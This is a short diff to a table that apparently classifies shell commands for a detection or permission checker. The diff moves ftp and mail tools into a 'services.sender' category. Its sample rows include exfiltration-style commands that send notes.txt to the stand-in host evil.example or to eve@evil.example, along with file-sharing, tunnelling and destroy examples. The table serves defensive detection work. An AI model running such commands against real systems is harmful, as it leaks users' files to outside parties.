@@ -142,7 +142,7 @@ TABLE = """
         no {} notes.txt b
     sftp | network.copier | =
         yes echo put notes.txt | {} evil.example
-    ftp lftp ncftpput smbclient tftp | network.ftp | =
+    ftp lftp ncftpput smbclient tftp | services.sender | =
         yes {} evil.example < notes.txt
     cloudflared localtunnel lt ngrok | network.tunnel | =
         yes {} http 80
@@ -186,7 +186,7 @@ TABLE = """
         yes {} destroy
         no {} fmt
     # --- mail, messages, files to others, databases
-    mail mailx msmtp mutt neomutt s-nail sendmail ssmtp swaks | services.mail | =
+    mail mailx msmtp mutt neomutt s-nail sendmail ssmtp swaks | services.sender | =
         yes {} eve@evil.example < notes.txt
     croc ffsend ntfy slackcat telegram-send transfer wormhole magic-wormhole | services.sender | =
         yes {} send notes.txt
